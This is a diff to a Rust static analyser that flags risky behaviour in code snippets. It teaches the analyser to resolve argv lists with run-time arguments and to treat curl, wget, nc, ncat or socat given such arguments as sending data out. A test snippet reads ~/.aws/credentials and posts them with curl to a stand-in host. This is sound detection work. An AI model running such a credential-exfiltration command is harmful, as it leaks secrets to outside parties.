@@ -221,6 +221,11 @@ fn vocab(lang: Lang) -> Option<&'static Vocab> {
     t.get(lang.name())
 }
 
+/// An argument of a [`Run::Argv`] whose value is computed at run time (`tempfile.mkdtemp()`, a
+/// loop variable): the shell layer reads it as an unknown word, so `["git", "init", d]` is git
+/// with an unknown directory while `["rm", "-rf", d]` is a delete of an unknown target.
+pub const UNKNOWN_ARG: &str = "\u{1}unknown\u{1}";
+
 /// Something the snippet runs.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Run {
@@ -925,6 +930,29 @@ fn literal_list(arg: &[Tok], vars: &HashMap<String, String>) -> Option<Vec<Strin
         .into_iter()
         .map(|a| literal(a, vars))
         .collect()
+}
+
+/// An argv list literal whose program is known and some of whose arguments are computed at run
+/// time (`["git", "init", "-q", d]`, `["pytest", *files]`): those are [`UNKNOWN_ARG`].
+fn partial_list(arg: &[Tok], vars: &HashMap<String, String>) -> Option<Vec<String>> {
+    let inner = match (arg.first(), arg.last()) {
+        (Some(Tok::Punct('[')), Some(Tok::Punct(']'))) if arg.len() > 2 => &arg[1..arg.len() - 1],
+        _ => return None,
+    };
+    let items = split_args(inner);
+    let program = literal(items.first()?, vars)?;
+    // A shell or an interpreter given code computed at run time stays dynamic code (and a
+    // download reaching it is fetch-and-run).
+    if runs_code_argument(program.rsplit('/').next().unwrap_or(&program)) {
+        return None;
+    }
+    let mut argv = vec![program];
+    argv.extend(
+        items[1..]
+            .iter()
+            .map(|a| literal(a, vars).unwrap_or_else(|| UNKNOWN_ARG.to_string())),
+    );
+    Some(argv)
 }
 
 /// Resolve a path argument: home and root expressions, literals, known variables.
@@ -2091,12 +2119,21 @@ fn scan(
     r.fork_loop = fork && (infinite_loop(toks) || huge_count(toks));
     // A shell command assembled at run time around a network tool (`os.execute("curl -d "..f..
     // " http://…")`) sends too.
-    if dynamic_run
-        && toks.iter().any(|t| {
-            matches!(t, Tok::Str(s) if s.split_whitespace().next().is_some_and(|w| {
-                matches!(w.rsplit('/').next(), Some("curl" | "wget" | "nc" | "ncat" | "socat"))
-            }))
-        })
+    // So does a network tool given arguments computed at run time (`["curl", "-d", secret, URL]`).
+    let is_sender = |w: &str| {
+        matches!(
+            w.rsplit('/').next(),
+            Some("curl" | "wget" | "nc" | "ncat" | "socat")
+        )
+    };
+    let computed_send = r.runs.iter().any(|(run, _)| {
+        matches!(run, Run::Argv(a) if a.iter().any(|w| w == UNKNOWN_ARG) && is_sender(&a[0]))
+    });
+    if computed_send
+        || dynamic_run
+            && toks.iter().any(
+                |t| matches!(t, Tok::Str(s) if s.split_whitespace().next().is_some_and(is_sender)),
+            )
     {
         send = true;
         net_call = true;
@@ -2177,7 +2214,9 @@ fn runs_code_argument(program: &str) -> bool {
 fn in_directory(r: &mut Report, dir: &str, runs_at: usize, deletes_at: usize, writes_at: usize) {
     let join = |p: &str| join_dir(dir, p);
     let quoted = |w: &str| -> String {
-        if !w.is_empty()
+        if w == UNKNOWN_ARG {
+            "\"$RUNTIME_VALUE\"".to_string()
+        } else if !w.is_empty()
             && w.chars()
                 .all(|c| c.is_ascii_alphanumeric() || "/._-~=+:,@".contains(c))
         {
@@ -2892,6 +2931,11 @@ fn run_of(
     if let Some(list) = list_value(first, vars) {
         return Some(Run::Argv(list));
     }
+    if is_argv {
+        if let Some(list) = partial_list(first, vars) {
+            return Some(Run::Argv(list));
+        }
+    }
     let head = literal(first, vars)?;
     let rest: Vec<Option<String>> = parts[1..].iter().map(|p| literal(p, vars)).collect();
     if let Some(list) = parts
@@ -3129,6 +3173,29 @@ fn octal_mode(n: &str) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn argv_lists_keep_their_known_words_around_computed_ones() {
+        let r = analyze(
+            Lang::Python,
+            "import subprocess, tempfile\nd = tempfile.mkdtemp()\nsubprocess.run([\"git\", \"init\", \"-q\", d])",
+        );
+        assert!(r.dynamic.is_empty(), "{:?}", r.dynamic);
+        assert!(r.runs.iter().any(|(run, _)| matches!(run, Run::Argv(a)
+            if a[..3] == ["git", "init", "-q"] && a[3] == UNKNOWN_ARG)));
+        // A shell given computed code stays dynamic.
+        let r = analyze(
+            Lang::Python,
+            "import subprocess\nsubprocess.run([\"sh\", \"-c\", input()])",
+        );
+        assert!(!r.dynamic.is_empty());
+        // A network tool given a computed argument after a secret read sends it.
+        let r = analyze(
+            Lang::Python,
+            "import subprocess, os\ns = open(os.path.expanduser('~/.aws/credentials')).read()\nsubprocess.run(['curl', '-d', s, 'https://x.example/c'])",
+        );
+        assert!(r.secret_to_network);
+    }
 
     #[test]
     fn a_shebang_names_the_interpreter() {
